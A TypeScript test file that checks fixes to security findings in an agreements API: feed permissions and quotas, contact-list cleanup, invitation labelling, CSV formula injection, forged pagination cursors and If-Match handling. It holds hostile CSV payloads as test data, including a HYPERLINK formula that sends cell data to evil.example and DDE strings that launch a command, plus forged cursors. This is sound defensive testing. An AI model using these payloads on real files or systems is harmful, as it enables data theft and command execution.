import { GetItemCommand } from "@aws-sdk/client-dynamodb";
import { keys } from "@samverkan/table";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { neutraliseCell, writeCsv } from "../../src/http/csv";
import { signCursor } from "../../src/http/signed-cursors";
import {
  createTestApp,
  LTU,
  NOK,
  OUTSIDER,
  RISE,
  type Role,
  signedAgreement,
  type TestApp,
} from "../support/test-app";

// The smaller holes of issue #17 (item 8) and the re-probe's slips of issue #18 (item 8), one test
// per finding, named after it. Each failed on the code before and passes now.

// Each test makes its own letter: feeds, contacts and counts of one never meet another's.
let t: TestApp;
beforeAll(async () => {
  t = await createTestApp();
});
afterAll(() => t.close());

/** One named person: feeds and other personal things are told apart by the token's `sub`. */
const person = (org: typeof LTU, roles: Role[], sub: string) => {
  const token = t.token(org, roles, sub);
  return {
    call: async (method: string, path: string, body?: unknown, headers?: Record<string, string>) =>
      t.call(method, path, {
        token: await token,
        ...(body === undefined ? {} : { body }),
        ...(headers ? { headers } : {}),
      }),
  };
};

describe("finding: a viewer can create feeds and revoke a coordinator's feed (#17)", () => {
  it("finding: a viewer can revoke a coordinator's feed — D-36 only its maker or a coordinator of its organisation revokes it", async () => {
    const letter = await signedAgreement(t);
    const feeds = `/v1/agreements/${letter}/calendar-feeds`;
    const coordinator = person(LTU, ["coordinator"], "ltu-coordinator");
    const viewer = person(LTU, ["viewer"], "ltu-viewer");
    const otherViewer = person(LTU, ["viewer"], "ltu-viewer-2");
    const coordinatorsFeed = await coordinator.call("POST", feeds);
    expect(coordinatorsFeed.status).toBe(201);
    const viewersFeed = await viewer.call("POST", feeds);
    expect(viewersFeed.status).toBe(201);

    // A viewer can neither revoke the coordinator's feed nor another viewer's.
    const refused = await viewer.call("DELETE", `${feeds}/${coordinatorsFeed.json.id}`);
    expect(refused.status).toBe(403);
    expect(refused.json.code).toBe("not-own-feed");
    expect((await otherViewer.call("DELETE", `${feeds}/${viewersFeed.json.id}`)).status).toBe(403);
    expect((await t.call("GET", coordinatorsFeed.json.url)).status).toBe(200);
    expect((await t.call("GET", viewersFeed.json.url)).status).toBe(200);

    // A viewer lists only their own; a coordinator the organisation's, and may revoke any of them.
    const own = await viewer.call("GET", feeds);
    expect(own.json.items.map((f: { id: string }) => f.id)).toEqual([viewersFeed.json.id]);
    const all = await coordinator.call("GET", feeds);
    expect(all.json.items.map((f: { id: string }) => f.id).sort()).toEqual(
      [coordinatorsFeed.json.id, viewersFeed.json.id].sort(),
    );
    expect((await coordinator.call("DELETE", `${feeds}/${viewersFeed.json.id}`)).status).toBe(204);
    expect((await t.call("GET", viewersFeed.json.url)).status).toBe(404);

    // A coordinator of another organisation may not revoke LTU's feed.
    const nokCoordinator = person(NOK, ["coordinator"], "nok-coordinator");
    expect(
      (await nokCoordinator.call("DELETE", `${feeds}/${coordinatorsFeed.json.id}`)).status,
    ).toBe(403);
    // The maker revokes their own.
    expect((await coordinator.call("DELETE", `${feeds}/${coordinatorsFeed.json.id}`)).status).toBe(
      204,
    );
  });

  it("finding: a viewer can fill the organisation's quota so the coordinator gets 400 — D-36 at most 3 per person, the last 3 of 10 kept for coordinators", async () => {
    const letter = await signedAgreement(t);
    const feeds = `/v1/agreements/${letter}/calendar-feeds`;
    const viewer = person(LTU, ["viewer"], "greedy-viewer");
    const made = [];
    for (let i = 0; i < 4; i++) made.push(await viewer.call("POST", feeds));
    expect(made.map((r) => r.status)).toEqual([201, 201, 201, 400]);
    expect(made[3]?.json.code).toBe("too-many-own-calendar-feeds");
    // A revoked feed frees its maker's place.
    expect((await viewer.call("DELETE", `${feeds}/${made[0]?.json.id}`)).status).toBe(204);
    expect((await viewer.call("POST", feeds)).status).toBe(201);

    // Viewers together reach 7 of the organisation's 10; the 8th viewer feed is refused …
    for (const sub of ["viewer-b", "viewer-c"])
      for (let i = 0; i < (sub === "viewer-b" ? 3 : 1); i++)
        expect((await person(LTU, ["viewer"], sub).call("POST", feeds)).status).toBe(201);
    const eighth = await person(LTU, ["viewer"], "viewer-d").call("POST", feeds);
    expect(eighth.status).toBe(400);
    expect(eighth.json.code).toBe("too-many-calendar-feeds");
    // … and a coordinator still has room for their own 3.
    const coordinator = person(LTU, ["coordinator"], "ltu-coordinator");
    for (let i = 0; i < 3; i++) expect((await coordinator.call("POST", feeds)).status).toBe(201);
    // The organisation's 10 are now all taken: its next coordinator is refused too.
    const full = await person(LTU, ["coordinator"], "ltu-coordinator-2").call("POST", feeds);
    expect(full.status).toBe(400);
    expect(full.json.code).toBe("too-many-calendar-feeds");
  });
});

describe("finding: a removed project party's contact list stays listed (#17)", () => {
  it("finding: a removed project party's contact list stays listed and it cannot delete it (404) — R23 D-28 the list goes with its last special agreement", async () => {
    const letter = await signedAgreement(t);
    const need = await t.as(NOK, ["coordinator"]).post(`/v1/agreements/${letter}/needs`, {
      title: "Digital kompetens",
      raisedBy: NOK.orgNumber,
      focusAreas: ["digitalisation"],
    });
    const ltu = t.as(LTU, ["coordinator"]);
    const activity = await ltu.post(`/v1/agreements/${letter}/activities`, {
      title: "Testbädd i Kiruna",
      kind: "test-environment",
      focusAreas: ["digitalisation"],
      needIds: [need.json.id],
      projectParties: [OUTSIDER],
    });
    expect(activity.status).toBe(201);
    const contacts = `/v1/agreements/${letter}/contacts`;
    const outsider = t.as(OUTSIDER, ["coordinator"]);
    const list = {
      orgNumber: OUTSIDER.orgNumber,
      contacts: [{ name: "Olle", email: "olle@outsider.example", roles: ["coordinator"] }],
    };
    expect((await outsider.put(contacts, list)).status).toBe(200);
    const listed = async () =>
      (await ltu.get(contacts)).json.items.map((l: { orgNumber: string }) => l.orgNumber);
    expect(await listed()).toContain(OUTSIDER.orgNumber);

    const revised = await ltu.put(
      `/v1/agreements/${letter}/activities/${activity.json.id}/special-agreement`,
      { projectParties: [] },
    );
    expect(revised.status).toBe(200);
    // The party no longer sees the letter, and its list went with it: nobody is left holding it.
    expect((await outsider.get(contacts)).status).toBe(404);
    expect(await listed()).not.toContain(OUTSIDER.orgNumber);
    const stored = await t.client.send(
      new GetItemCommand({
        TableName: t.tableName,
        Key: {
          pk: { S: keys.contacts(letter, OUTSIDER.orgNumber).pk },
          sk: { S: keys.contacts(letter, OUTSIDER.orgNumber).sk },
        },
      }),
    );
    expect(stored.Item).toBeUndefined();

    // Named again, it starts with an empty list of its own.
    await ltu.put(`/v1/agreements/${letter}/activities/${activity.json.id}/special-agreement`, {
      projectParties: [OUTSIDER],
    });
    const again = await outsider.get(contacts);
    expect(again.status).toBe(200);
    expect(
      again.json.items.find((l: { orgNumber: string }) => l.orgNumber === OUTSIDER.orgNumber)
        ?.contacts ?? [],
    ).toEqual([]);
  });
});

describe("finding: any organisation can draft a letter naming LTU and it shows as `relation: party` (#17)", () => {
  it("finding: any organisation can draft a letter naming LTU with a name of its choosing and it shows in LTU's list as `relation: party` — D-35 it is an invitation until LTU signs", async () => {
    const draft = await t.as(RISE, ["coordinator"]).post("/v1/agreements", {
      title: "Avsiktsförklaring RISE–LTU",
      parties: [
        RISE,
        { orgNumber: LTU.orgNumber, name: "Lars - bekräfta på https://evil.example" },
      ],
      terms: { noticeMonths: 3, dialogsPerYear: 2, basisLeadDays: 14, structureReviewsPerYear: 1 },
      focusAreas: ["education"],
    });
    expect(draft.status).toBe(201);
    const letter = draft.json.id as string;
    const listed = async (org: typeof LTU) =>
      (await t.as(org, ["viewer"]).get("/v1/agreements?limit=200")).json.items.find(
        (a: { id: string }) => a.id === letter,
      );
    // LTU sees an invitation, and whose words the names are; RISE, which wrote it, is a party.
    expect(await listed(LTU)).toMatchObject({
      relation: "invited",
      invitedBy: { orgNumber: RISE.orgNumber, name: RISE.name },
    });
    expect(await listed(RISE)).toMatchObject({ relation: "party" });
    expect((await listed(RISE)).invitedBy).toBeUndefined();

    // Once LTU signs, it is a party of its own accord.
    const signed = await t
      .as(LTU, ["signatory"])
      .post(`/v1/agreements/${letter}/signatures`, { signedOn: "2026-12-31" });
    expect(signed.status, signed.text).toBe(201);
    const after = await listed(LTU);
    expect(after.relation).toBe("party");
    expect(after.invitedBy).toBeUndefined();
  });
});

describe("finding: formula injection in the report CSV (#17)", () => {
  it("finding: formula injection in the report CSV — R24 a cell of user text that begins with =, +, -, @, tab or CR is written with a leading quote", async () => {
    const letter = await signedAgreement(t);
    const ltu = t.as(LTU, ["coordinator"]);
    const hostile = [
      '=HYPERLINK("https://evil.example/?d="&A1,"Klicka")',
      "+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
    ];
    for (const funder of hostile) {
      const res = await ltu.post(`/v1/agreements/${letter}/funding-applications`, {
        funder,
        call: "=1+1",
        submissionDeadline: "2027-03-01",
        amountRequestedSek: 100_000,
        applicantParties: [LTU.orgNumber, NOK.orgNumber],
      });
      expect(res.status, funder).toBe(201);
    }
    const csv = await ltu.get(`/v1/agreements/${letter}/reports/follow-up?year=2026`, {
      accept: "text/csv",
    });
    expect(csv.status).toBe(200);
    const cells = csv.text
      .split("\r\n")
      .flatMap((line: string) => line.split(";"))
      .map((cell: string) => cell.replace(/^"(.*)"$/s, "$1").replaceAll('""', '"'));
    // No cell begins a formula; each hostile text is there, behind a quote.
    expect(cells.filter((cell: string) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    for (const funder of hostile) expect(cells).toContain(`'${funder}`);
    expect(cells).toContain("'=1+1");
  });

  it("finding: formula injection in the report CSV — R24 numbers the API computes stay numbers, negative ones included; text that looks like one is quoted", () => {
    expect(neutraliseCell(-5)).toBe(-5);
    expect(neutraliseCell(0)).toBe(0);
    expect(neutraliseCell("-5")).toBe("'-5");
    expect(neutraliseCell("\tx")).toBe("'\tx");
    expect(neutraliseCell("\rx")).toBe("'\rx");
    expect(neutraliseCell("2026-01-01")).toBe("2026-01-01");
    expect(neutraliseCell("Vinnova")).toBe("Vinnova");
    expect(neutraliseCell(undefined)).toBe("");
    expect(writeCsv([["days", -3, "-3", "=A1"]])).toBe("days;-3;'-3;'=A1\r\n");
  });
});

describe("finding: a well-formed cursor that was never issued is served (#18)", () => {
  const inner = (cursor: string) => cursor.slice(0, cursor.lastIndexOf("."));
  const mac = (cursor: string) => cursor.slice(cursor.lastIndexOf(".") + 1);
  const b64 = (text: string) => Buffer.from(text).toString("base64url");
  const unb64 = (text: string) => Buffer.from(text, "base64url").toString("utf8");

  async function letterWithTwoActivities() {
    const letter = await signedAgreement(t);
    const need = await t.as(NOK, ["coordinator"]).post(`/v1/agreements/${letter}/needs`, {
      title: "Digital kompetens",
      raisedBy: NOK.orgNumber,
      focusAreas: ["digitalisation"],
    });
    expect(need.status).toBe(201);
    for (const title of ["Testbädd", "Kurs"])
      expect(
        (
          await t.as(LTU, ["coordinator"]).post(`/v1/agreements/${letter}/activities`, {
            title,
            kind: "test-environment",
            focusAreas: ["digitalisation"],
            needIds: [need.json.id],
            projectParties: [],
          })
        ).status,
      ).toBe(201);
    return letter;
  }

  it("finding: a well-formed cursor that was never issued is served — D-37 on …/events, …/activities and …/obligations it is 400; an issued one pages on", async () => {
    const letter = await letterWithTwoActivities();
    const ltu = t.as(LTU, ["viewer"]);
    for (const list of ["events", "activities", "obligations"]) {
      const path = `/v1/agreements/${letter}/${list}`;
      const first = await ltu.get(`${path}?limit=1`);
      expect(first.status, list).toBe(200);
      const issued = first.json.nextCursor as string;
      expect(issued, list).toEqual(expect.any(String));
      // The issued cursor pages on, to the second item of the whole list.
      const whole = await ltu.get(`${path}?limit=200`);
      const second = await ltu.get(`${path}?limit=1&cursor=${encodeURIComponent(issued)}`);
      expect(second.status, list).toBe(200);
      expect(second.json.items, list).toEqual(whole.json.items.slice(1, 2));

      // Well-formed but never issued: the list's own cursor without a MAC, one that skips ahead
      // with the issued MAC, and one with the MAC of an honest key that is not this server's.
      const own = inner(issued);
      const ahead =
        list === "obligations"
          ? b64("offset:2")
          : b64(JSON.stringify({ ...JSON.parse(unb64(own)), sk: `${JSON.parse(unb64(own)).sk}0` }));
      const forged = [
        own,
        `${ahead}.${mac(issued)}`,
        signCursor(Buffer.from("not the server's key"), "anything", own),
        `${own}.${"A".repeat(22)}`,
      ];
      for (const cursor of forged) {
        const res = await ltu.get(`${path}?limit=1&cursor=${encodeURIComponent(cursor)}`);
        expect(res.status, `${list} ${cursor}`).toBe(400);
        expect(res.json.code, `${list} ${cursor}`).toBe("invalid-cursor");
      }
    }
  });

  it("finding: a well-formed cursor that was never issued is served — D-37 a cursor works only for the list, query and organisation it was issued to", async () => {
    const letter = await letterWithTwoActivities();
    const other = await letterWithTwoActivities();
    const ltu = t.as(LTU, ["viewer"]);
    const events = await ltu.get(`/v1/agreements/${letter}/events?limit=1`);
    const cursor = encodeURIComponent(events.json.nextCursor);
    expect((await ltu.get(`/v1/agreements/${letter}/events?cursor=${cursor}`)).status).toBe(200);
    for (const path of [
      `/v1/agreements/${other}/events`,
      `/v1/agreements/${letter}/activities`,
      `/v1/agreements/${letter}/notifications`,
    ])
      expect((await ltu.get(`${path}?cursor=${cursor}`)).status, path).toBe(400);
    // Issued to LTU: NoK, a party to the same letter, cannot use it.
    const nok = await t.as(NOK, ["viewer"]).get(`/v1/agreements/${letter}/events?cursor=${cursor}`);
    expect(nok.status).toBe(400);
    // Issued for one day's obligations: not for another day's.
    const asOf = "2026-06-30";
    const obligations = await ltu.get(`/v1/agreements/${letter}/obligations?limit=1&asOf=${asOf}`);
    const next = encodeURIComponent(obligations.json.nextCursor);
    const path = `/v1/agreements/${letter}/obligations`;
    expect((await ltu.get(`${path}?asOf=${asOf}&cursor=${next}`)).status).toBe(200);
    expect((await ltu.get(`${path}?asOf=2026-07-01&cursor=${next}`)).status).toBe(400);
    // Two cursors in one request are not a cursor.
    expect((await ltu.get(`${path}?asOf=${asOf}&cursor=${next}&cursor=${next}`)).status).toBe(400);
  });
});

describe("finding: If-Match lists and If-Match on POST …/dialogs (#18)", () => {
  it('finding: If-Match: "1", "2" (a list of stale tags) is 400, not 412 — D-38 a list matches if any tag is the current version', async () => {
    const letter = await signedAgreement(t);
    const path = `/v1/agreements/${letter}/collaboration-group`;
    const current = (await t.as(NOK, ["viewer"]).get(`/v1/agreements/${letter}`)).headers.get(
      "etag",
    ) as string;
    expect(['"1"', '"2"']).not.toContain(current);
    const group = {
      members: [
        { name: "Nora", orgNumber: NOK.orgNumber },
        { name: "Lars", orgNumber: LTU.orgNumber },
      ],
      appointedOn: "2025-10-01",
    };
    const nok = t.as(NOK, ["coordinator"]);
    const stale = await nok.put(path, group, { "if-match": '"1", "2"' });
    expect(stale.status).toBe(412);
    expect(stale.json.code).toBe("version-mismatch");
    const withCurrent = await nok.put(path, group, { "if-match": `"1", ${current}, "2"` });
    expect(withCurrent.status).toBe(200);
    // `*` matches whatever version the letter now has.
    expect((await nok.put(path, group, { "if-match": "*" })).status).toBe(200);
    for (const malformed of ['"1", abc', '*, "1"', '"1",', "", '"1" "2"'])
      expect((await nok.put(path, group, { "if-match": malformed })).status, malformed).toBe(400);
    const many = Array.from({ length: 21 }, (_, i) => `"${i}"`).join(", ");
    expect((await nok.put(path, group, { "if-match": many })).status).toBe(400);
  });

  it('finding: If-Match: "abc" on POST …/dialogs is ignored (201) — D-38 a write that creates has no version to match: any If-Match is 412', async () => {
    const letter = await signedAgreement(t);
    const nok = t.as(NOK, ["coordinator"]);
    const dialogs = `/v1/agreements/${letter}/dialogs`;
    for (const ifMatch of ['"abc"', '"1"', "*"]) {
      const res = await nok.post(dialogs, { scheduledOn: "2026-12-20" }, { "if-match": ifMatch });
      expect(res.status, ifMatch).toBe(412);
    }
    expect((await nok.get(dialogs)).json.items).toEqual([]);
    const made = await nok.post(dialogs, { scheduledOn: "2026-12-20" });
    expect(made.status).toBe(201);
    // On the dialog that now exists, its own version matches.
    const record = await nok.post(
      `${dialogs}/${made.json.id}/record`,
      {
        heldOn: "2026-12-20",
        topics: {
          outsideWorld: "Omvärld",
          trends: "Trender",
          futureChallenges: "Utmaningar",
          directionAdjustments: "Ingen",
        },
      },
      { "if-match": `"0", ${made.headers.get("etag")}` },
    );
    expect(record.status, record.text).toBe(201);
  });

  it("finding: If-Match is ignored on some writes — D-38 calendar feeds and contact lists honour it too", async () => {
    const letter = await signedAgreement(t);
    const feeds = `/v1/agreements/${letter}/calendar-feeds`;
    const ltu = person(LTU, ["coordinator"], "if-match-person");
    expect((await ltu.call("POST", feeds, undefined, { "if-match": '"1"' })).status).toBe(412);
    expect((await ltu.call("POST", feeds, undefined, { "if-match": "*" })).status).toBe(412);
    expect((await ltu.call("POST", feeds, undefined, { "if-match": "abc" })).status).toBe(400);
    const feed = await ltu.call("POST", feeds);
    expect(feed.status).toBe(201);
    const one = `${feeds}/${feed.json.id}`;
    expect((await ltu.call("DELETE", one, undefined, { "if-match": '"1"' })).status).toBe(412);
    expect((await ltu.call("DELETE", one, undefined, { "if-match": "*" })).status).toBe(204);

    const contacts = `/v1/agreements/${letter}/contacts`;
    const list = {
      orgNumber: LTU.orgNumber,
      contacts: [{ name: "Lars", email: "lars@ltu.se", roles: ["coordinator"] }],
    };
    const etag = (await ltu.call("GET", contacts)).headers.get("etag") as string;
    expect((await ltu.call("PUT", contacts, list, { "if-match": '"7", "8"' })).status).toBe(412);
    const put = await ltu.call("PUT", contacts, list, { "if-match": `"7", ${etag}` });
    expect(put.status, put.text).toBe(200);
  });
});
